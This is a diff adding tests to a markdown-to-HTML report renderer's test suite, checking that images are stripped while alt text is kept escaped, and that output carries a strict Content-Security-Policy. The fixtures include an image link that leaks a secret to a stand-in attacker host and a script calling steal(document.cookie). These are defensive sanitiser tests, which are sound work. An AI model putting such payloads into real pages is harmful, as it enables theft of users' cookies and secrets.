@@ -28,6 +28,18 @@ describe('renderMarkdownHtml', () => {
     expect(html).toContain('<a href="https://example.com/register">the register</a>');
   });
 
+  it('keeps an image’s description but never the image or its address', () => {
+    const { html } = renderMarkdownHtml(report('Risk ![the <client> key](https://attacker.example/leak?q=secret "t") noted.\n\n![](http://attacker.example/p.png)'));
+    expect(html).not.toMatch(/<img|attacker/i);
+    expect(html).toContain('the &lt;client&gt; key');
+  });
+
+  it('prints under a policy that lets the page load nothing but inline styles and data: images', () => {
+    expect(buildReportHtml(report('Body.')).html).toContain(
+      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`,
+    );
+  });
+
   it('removes script elements with their content, inline and as blocks', () => {
     const { html } = renderMarkdownHtml(report('Before <script>steal(document.cookie)</script> after.\n\n<script>\nsteal(2)\n</script>\n\nEnd.'));
     expect(html).not.toMatch(/<script|steal/i);
